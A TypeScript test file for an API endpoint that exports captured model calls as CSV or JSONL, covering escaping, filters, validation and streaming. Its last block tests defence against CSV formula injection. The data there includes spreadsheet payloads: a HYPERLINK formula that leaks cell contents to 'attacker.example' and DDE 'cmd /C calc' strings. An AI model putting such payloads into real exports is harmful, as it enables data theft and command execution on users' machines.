import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { callPages, pagedStream } from '../../src/calls/export';
import { createTestApp, type TestApp } from '../support/app';

const BULK = 1_234; // more than two export pages

/** Rows generated in SQL through the real capture triggers: even i → provider alpha, every 5th failed. */
const BULK_SQL = `
  INSERT INTO raw_calls (provider, model, modality, status, request_json, response_json, error_json, latency_ms,
                         total_tokens, request_hash, metadata_json, created_at)
  WITH RECURSIVE seq(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM seq WHERE i < ${BULK})
  SELECT CASE WHEN i % 2 = 0 THEN 'alpha' ELSE 'beta' END, 'bulk-model', 'chat',
         CASE WHEN i % 5 = 0 THEN 'failed' ELSE 'success' END,
         json_object('model', 'bulk-model', 'messages', json_array(json_object('role', 'user', 'content', 'bulk prompt ' || i))),
         CASE WHEN i % 5 = 0 THEN NULL ELSE json_object('text', 'bulk answer ' || i) END,
         CASE WHEN i % 5 = 0 THEN json_object('class', 'InternalServerError', 'status', 500, 'message', 'boom ' || i, 'attempts', 3) END,
         i * 1.5, i, 'hash-' || i, json_object('i', i),
         strftime('%Y-%m-%dT%H:%M:%fZ', '2025-01-01', '+' || i || ' minutes')
  FROM seq`;

describe('GET /api/v1/calls/export', () => {
  let t: TestApp;
  let trickyId: number;
  let groupId: number;

  beforeAll(async () => {
    t = await createTestApp();
    await t.deps.database.client.execute(BULK_SQL);
    const tricky = await (await t.post('/api/v1/inference', { provider: 'echo', prompt: 'Say "hi", then\na comma, please; é ✓' })).json();
    trickyId = tricky.calls[0].id;
    const group = await (await t.post('/api/v1/groups', { group_type: 'label', name: 'export me' })).json();
    groupId = group.group.id;
    await t.post(`/api/v1/groups/${groupId}/members`, { call_ids: [3, 5, trickyId] });
  });
  afterAll(() => t.close());

  const exportText = async (query: string) => {
    const res = await t.get(`/api/v1/calls/export?${query}`);
    return { res, text: await res.text() };
  };
  const csvRecords = (text: string) => parse(text, { columns: true }) as Array<Record<string, string>>;

  it('streams every call as CSV, oldest first, with a header and an attachment filename', async () => {
    const { res, text } = await exportText('format=csv');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="calls-\d{4}-\d{2}-\d{2}T\d{2}-\d{2}-\d{2}Z\.csv"$/);
    const records = csvRecords(text);
    expect(records).toHaveLength(BULK + 1);
    expect(records.map((r) => Number(r.id))).toEqual(Array.from({ length: BULK + 1 }, (_, i) => i + 1));
    expect(Object.keys(records[0]!)).toEqual([
      'id', 'created_at', 'provider', 'model', 'modality', 'status', 'latency_ms', 'prompt_tokens', 'completion_tokens', 'total_tokens',
      'cost_usd', 'prompt', 'response', 'error_class', 'error_message', 'request_hash', 'request_json', 'response_json', 'error_json',
      'tokens_json', 'metadata_json',
    ]);
    expect(records[9]).toMatchObject({ id: '10', provider: 'alpha', status: 'failed', prompt: 'bulk prompt 10', response: '', error_class: 'InternalServerError', error_message: 'boom 10', latency_ms: '15' });
  });

  it('keeps quotes, commas, new lines and non-ASCII text intact, and the JSON columns whole', async () => {
    const records = csvRecords((await exportText('format=csv&provider=echo')).text);
    expect(records).toHaveLength(1);
    const [row] = records;
    expect(row!.prompt).toBe('Say "hi", then\na comma, please; é ✓');
    expect(row!.response).toBe('echo: Say "hi", then\na comma, please; é ✓');
    expect(JSON.parse(row!.request_json!)).toEqual({ model: 'echo-1', messages: [{ role: 'user', content: 'Say "hi", then\na comma, please; é ✓' }] });
    expect(JSON.parse(row!.metadata_json!)).toMatchObject({ source: 'inference', attempts: 1 });
    expect(row!.error_json).toBe('');
  });

  it('streams JSONL, one call per line in the shape GET /api/v1/calls/:id returns', async () => {
    const { res, text } = await exportText('format=jsonl&provider=alpha&status=failed');
    expect(res.headers.get('content-type')).toBe('application/x-ndjson; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(/\.jsonl"$/);
    const lines = text.trimEnd().split('\n').map((line) => JSON.parse(line));
    expect(lines).toHaveLength(Math.floor(BULK / 10)); // i divisible by 2 and 5
    expect(lines.every((c) => c.provider === 'alpha' && c.status === 'failed')).toBe(true);
    const detail = await (await t.get(`/api/v1/calls/${lines[0].id}`)).json();
    expect(lines[0]).toEqual(detail.call);
  });

  it('applies the call-list filters: group, full-text search and time range', async () => {
    const inGroup = (await exportText(`format=jsonl&group_id=${groupId}`)).text.trimEnd().split('\n').map((l) => JSON.parse(l).id);
    expect(inGroup).toEqual([3, 5, trickyId]);
    const searched = csvRecords((await exportText('format=csv&q=boom')).text);
    expect(searched).toHaveLength(Math.floor(BULK / 5));
    const window = csvRecords((await exportText('format=csv&model=bulk-model&from=2025-01-01T00:10:00Z&to=2025-01-01T00:20:00Z')).text);
    expect(window.map((r) => Number(r.id))).toEqual([10, 11, 12, 13, 14, 15, 16, 17, 18, 19]);
  });

  it('sends just the CSV header, or nothing for JSONL, when no call matches', async () => {
    expect((await exportText('format=csv&provider=nobody')).text.split('\n')[0]).toMatch(/^id,created_at,provider/);
    expect(csvRecords((await exportText('format=csv&provider=nobody')).text)).toEqual([]);
    expect((await exportText('format=jsonl&provider=nobody')).text).toBe('');
  });

  describe('rejects bad queries with a 400 naming the field', () => {
    for (const [query, field] of [
      ['', 'format'],
      ['format=xml', 'format'],
      ['format=csv&status=maybe', 'status'],
      ['format=csv&limit=10', 'limit'],
      ['format=csv&from=yesterday', 'from'],
      ['format=csv&group_id=-1', 'group_id'],
    ]) {
      it(`?${query}`, async () => {
        const res = await t.get(`/api/v1/calls/export?${query}`);
        expect(res.status).toBe(400);
        expect((await res.json()).error.message).toContain(field);
      });
    }
  });

  it('does not shadow GET /api/v1/calls/:id', async () => {
    expect((await t.get(`/api/v1/calls/${trickyId}`)).status).toBe(200);
  });

  describe('streaming', () => {
    /** callPages, counting the pages it has fetched. */
    const countingPages = (pageSize: number) => {
      const seen = { pages: 0 };
      async function* pages() {
        for await (const page of callPages(t.deps.database.db, {}, pageSize)) {
          seen.pages++;
          yield page;
        }
      }
      return { seen, pages: pages() };
    };
    const encode = (rows: Array<{ id: number }>) => rows.map((r) => `${r.id}\n`).join('');

    it('fetches a page only when the reader asks for more, so memory holds one page, not the export', async () => {
      const { seen, pages } = countingPages(100);
      const reader = pagedStream(pages, encode).getReader();
      const first = await reader.read();
      expect(new TextDecoder().decode(first.value).split('\n')[0]).toBe('1');
      await new Promise((r) => setTimeout(r, 20));
      expect(seen.pages).toBeLessThanOrEqual(2); // the page read, and at most one queued
      await reader.cancel();
      await new Promise((r) => setTimeout(r, 20));
      expect(seen.pages).toBeLessThanOrEqual(2);
    });

    it('covers the calls that existed when it started, not those captured while it streams', async () => {
      const { pages } = countingPages(500);
      const reader = pagedStream(pages, encode).getReader();
      const chunks = [new TextDecoder().decode((await reader.read()).value)];
      const [{ n: before }] = (await t.deps.database.client.execute('SELECT max(id) AS n FROM raw_calls')).rows as unknown as [{ n: number }];
      await t.post('/api/v1/inference', { provider: 'echo', prompt: 'captured mid-export' });
      for (let r = await reader.read(); !r.done; r = await reader.read()) chunks.push(new TextDecoder().decode(r.value));
      const ids = chunks.join('').trimEnd().split('\n').map(Number);
      expect(ids).toHaveLength(Number(before));
      expect(Math.max(...ids)).toBe(Number(before));
    });
  });
});

describe('GET /api/v1/calls/export?format=csv and spreadsheet formulas', () => {
  let t: TestApp;
  afterAll(() => t?.close());

  /** Prompts a spreadsheet would run as formulas, each captured as a real call. */
  const PROMPTS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1, "Click for details")',
    '+1+cmd|\' /C calc\'!A0',
    '-2+3, then "more", please',
    '@SUM(1+1)*cmd|\' /C calc\'!A0',
    '\t=1+1 behind a tab',
    '\r=1+1 behind a carriage return\nand a second line',
    '＝HYPERLINK("http://attacker.example") with a full-width equals sign',
    'a plain prompt = 1 + 1',
  ];

  it('prefixes text cells that start with = + - @ tab or CR with a quote, and leaves numbers as numbers', async () => {
    t = await createTestApp();
    for (const [i, prompt] of PROMPTS.entries()) {
      await t.deps.database.client.execute({
        sql: `INSERT INTO raw_calls (provider, model, modality, status, request_json, response_json, error_json, latency_ms,
                                     total_tokens, request_hash, metadata_json, created_at)
              VALUES ('alpha', ?, 'chat', 'success', ?, ?, NULL, ?, 3, ?, '{}', '2025-01-01T00:00:00.000Z')`,
        // The model name is a formula too; latency is a negative number (a clock that stepped back).
        args: [i === 0 ? '=cmd|\'/C calc\'!A0' : 'm', JSON.stringify({ messages: [{ role: 'user', content: prompt }] }), JSON.stringify({ text: prompt }), -12.5, `h${i}`],
      });
    }
    const res = await t.get('/api/v1/calls/export?format=csv');
    expect(res.status).toBe(200);
    const records = parse(await res.text(), { columns: true }) as Array<Record<string, string>>;
    expect(records.map((r) => r.prompt)).toEqual([...PROMPTS.slice(0, -1).map((p) => `'${p}`), PROMPTS.at(-1)]);
    expect(records.map((r) => r.response)).toEqual(records.map((r) => r.prompt));
    expect(records[0]!.model).toBe('\'=cmd|\'/C calc\'!A0');
    expect(records.map((r) => r.latency_ms)).toEqual(PROMPTS.map(() => '-12.5'));
    // The JSON columns still hold the prompt exactly as captured.
    expect(records.map((r) => JSON.parse(r.request_json!).messages[0].content)).toEqual(PROMPTS);
  });
});

